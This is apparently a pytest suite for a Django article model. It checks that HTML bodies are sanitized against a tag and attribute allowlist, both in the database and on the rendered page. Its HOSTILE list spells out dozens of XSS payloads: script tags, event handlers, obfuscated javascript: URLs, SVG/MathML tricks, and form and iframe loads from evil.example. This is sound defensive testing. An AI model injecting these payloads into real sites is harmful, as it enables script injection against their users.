"""Article bodies are sanitized on save: hostile markup never reaches the DB or the page."""

import re
from html.parser import HTMLParser

import pytest

from articles.models import Article

# The allowlist as DESIGN.md intends it; kept here on purpose so widening the code's list fails.
# fmt: off
ALLOWED_TAGS = {
    "p", "br", "hr", "h2", "h3", "h4", "strong", "em", "b", "i", "u", "s", "sub", "sup",
    "a", "img", "figure", "figcaption", "ul", "ol", "li", "blockquote",
    "table", "thead", "tbody", "tr", "th", "td",
}
# fmt: on
GENERIC_ATTRIBUTES = {"title", "lang"}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "rel"},
    "img": {"src", "alt", "width", "height", "loading", "decoding"},
    "th": {"colspan", "rowspan"},
    "td": {"colspan", "rowspan"},
}
SAFE_SCHEMES = {"http", "https", "mailto"}
VOID_TAGS = {"br", "hr", "img"}


class TagCollector(HTMLParser):
    """Every tag with its attributes, and the text; only inside `[data-article-body]` if asked."""

    def __init__(self, body_only=False):
        super().__init__()
        self.tags = []
        self.text = ""
        self.comments = []
        self.found_body = not body_only
        self._depth = 0 if body_only else None

    def _inside(self):
        return self._depth is None or self._depth > 0

    def handle_starttag(self, tag, attrs):
        if self._depth == 0 and "data-article-body" in dict(attrs):
            self.found_body = True
            self._depth = 1
            return
        if self._inside():
            self.tags.append((tag, attrs))
            if self._depth is not None and tag not in VOID_TAGS:
                self._depth += 1

    def handle_startendtag(self, tag, attrs):
        if self._inside():
            self.tags.append((tag, attrs))

    def handle_endtag(self, tag):
        if self._depth:
            self._depth -= 1
            if self._depth == 0:
                self._depth = -1  # the body is closed; ignore the rest of the page

    def handle_data(self, data):
        if self._inside():
            self.text += data

    def handle_comment(self, data):
        if self._inside():
            self.comments.append(data)

    # Conditional comments and stray declarations land here.
    handle_decl = unknown_decl = handle_pi = handle_comment


def collect(html, body_only=False):
    parser = TagCollector(body_only=body_only)
    parser.feed(html)
    parser.close()
    assert parser.found_body, "the page has no [data-article-body] element"
    return parser


def url_scheme(value):
    """The scheme a browser sees: it drops outer controls and spaces, and inner tabs/newlines."""
    cleaned = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(0x21))))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", cleaned)
    return match.group(1).lower() if match else None


def assert_safe(html, body_only=False):
    parser = collect(html, body_only=body_only)
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, f"<{tag}> survived in {html!r}"
        for name, value in attrs:
            assert not name.startswith("on"), f"{name} on <{tag}> survived"
            assert name != "style", f"style on <{tag}> survived"
            allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | GENERIC_ATTRIBUTES
            assert name in allowed, f"{name} on <{tag}> survived"
            if name in {"href", "src"}:
                scheme = url_scheme(value or "")
                assert scheme is None or scheme in SAFE_SCHEMES, f"{name}={value!r} survived"
        if tag == "a":
            assert "noopener" in (dict(attrs).get("rel") or "").split()
    assert not parser.comments, f"comments survived: {parser.comments}"
    if not body_only:
        # Python's parser misreads some comment tricks (`--!>`); a clean body has no `<!` at all.
        assert "<!" not in html, "a comment or declaration survived"
    return parser


HOSTILE = [
    # <script> in every casing and broken form
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js>",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    # event handlers, odd spacing and quotes
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR = "alert(1)">',
    "<img src=x onerror\t=\talert(1)//>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=http://ok.example/ onclick='alert(1)'>x</a>",
    '<p onmouseover="alert(1)">hover</p>',
    "<p onmouseover=`alert(1)`>hover</p>",
    # javascript:, vbscript: and data: URLs
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='   javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<img src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=javascript:alert(1)>",
    # embedding, forms
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example/><input name=pw><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    '<input type="image" src="x" onerror="alert(1)">',
    # SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # styles
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<p style='width:expression(alert(1))'>x</p>",
    # document-level tags
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    # comments
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--[if gte IE 4]><img src=x onerror=alert(1)><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    # target and rel
    "<a href=https://ok.example/ target=_blank>x</a>",
    "<a href=https://ok.example/ rel=opener target=_blank>x</a>",
    # unclosed tags, attribute-breaking quotes
    "<img src=x onerror=alert(1)",
    '<p title="x" " onmouseover=alert(1)>x',
    '<a href="https://ok.example/" title=\'"><script>alert(1)</script>\'>x</a>',
    "<img src='x' alt=\"a' onerror='alert(1)\">",
    '<img src="x"alt="y"onerror="alert(1)">',
    "<p><b><i><a href=javascript:alert(1)>never closed",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
]


@pytest.mark.parametrize("body", HOSTILE)
def test_hostile_body_is_sanitized_in_db_and_on_page(client, make_article, body):
    article = make_article(body=f"<p>Before.</p>{body}<p>After.</p>")
    stored = Article.objects.get(pk=article.pk).body
    parser = assert_safe(stored)
    assert "Before." in parser.text

    response = client.get(article.get_absolute_url())
    assert response.status_code == 200
    page = response.content.decode()
    assert_safe(page, body_only=True)
    # Nothing hostile anywhere on the page either: handlers, javascript: links, inline scripts.
    for tag, attrs in collect(page).tags:
        for name, value in attrs:
            assert not name.startswith("on"), f"{name} on <{tag}> in the page"
            if name in {"href", "src", "action", "formaction"}:
                assert url_scheme(value or "") not in {"javascript", "vbscript", "data"}
        if tag == "script":
            # Besides script files, only the JSON-LD data block, which browsers never run.
            attrs = dict(attrs)
            assert attrs.get("src") or attrs.get("type") == "application/ld+json", (
                "an inline <script> is on the page"
            )
        assert tag not in {"iframe", "object", "embed", "base"}


def test_update_is_sanitized_too(make_article):
    article = make_article()
    article.body = "<p>Fine</p><img src=x onerror=alert(1)>"
    article.save()
    article.refresh_from_db()
    assert_safe(article.body)
    assert "onerror" not in article.body


ALLOWED_BODY = (
    "<h2>年度总结 Annual review</h2>"
    "<h3>Highlights</h3>"
    "<h4>Details</h4>"
    "<p>Revenue <strong>grew</strong> by <em>12%</em> &amp; orders doubled.<br>Second line.</p>"
    '<p><a href="https://example.com/report?id=1&amp;lang=en">Report</a> '
    '<a href="http://example.com/">Old site</a> '
    '<a href="mailto:press@example.com">Press office</a> '
    '<a href="/news/">News Center</a></p>'
    "<hr>"
    '<figure><img src="/media/uploads/plant.jpg" alt="新工厂" width="800" height="450">'
    "<figcaption>The new plant in Suzhou</figcaption></figure>"
    "<ul><li>One</li><li>Two</li></ul>"
    "<ol><li>First</li><li>Second</li></ol>"
    "<blockquote><p>We are proud of the team.</p></blockquote>"
    "<table><thead><tr><th>Year</th><th>Sales</th></tr></thead>"
    '<tbody><tr><td colspan="2">2020 总计</td></tr></tbody></table>'
)


def test_allowlist_keeps_editorial_markup(make_article):
    article = make_article(body=ALLOWED_BODY)
    parser = assert_safe(Article.objects.get(pk=article.pk).body)
    # fmt: off
    assert [tag for tag, _ in parser.tags] == [
        "h2", "h3", "h4", "p", "strong", "em", "br", "p", "a", "a", "a", "a", "hr",
        "figure", "img", "figcaption", "ul", "li", "li", "ol", "li", "li", "blockquote", "p",
        "table", "thead", "tr", "th", "th", "tbody", "tr", "td",
    ]
    # fmt: on
    attrs = [dict(a) for _, a in parser.tags]
    assert [a["href"] for a in attrs if "href" in a] == [
        "https://example.com/report?id=1&lang=en",
        "http://example.com/",
        "mailto:press@example.com",
        "/news/",
    ]
    image = next(a for a in attrs if "src" in a)
    assert (image["src"], image["alt"], image["width"], image["height"]) == (
        "/media/uploads/plant.jpg",
        "新工厂",
        "800",
        "450",
    )
    assert next(a for a in attrs if "colspan" in a)["colspan"] == "2"
    assert parser.text == (
        "年度总结 Annual reviewHighlightsDetailsRevenue grew by 12% & orders doubled."
        "Second line.Report Old site Press office News CenterThe new plant in Suzhou"
        "OneTwoFirstSecondWe are proud of the team.YearSales2020 总计"
    )


def test_allowed_markup_reaches_the_page(client, make_article):
    article = make_article(body=ALLOWED_BODY)
    page = client.get(article.get_absolute_url()).content.decode()
    parser = assert_safe(page, body_only=True)
    assert "年度总结 Annual review" in parser.text
    assert "2020 总计" in parser.text
    assert {"h2", "figure", "figcaption", "table", "blockquote"} <= {t for t, _ in parser.tags}


def test_plain_text_and_chinese_are_unchanged(make_article):
    body = "<p>公司于2020年11月20日召开年度大会。</p>"
    article = make_article(body=body)
    article.refresh_from_db()
    assert article.body == body
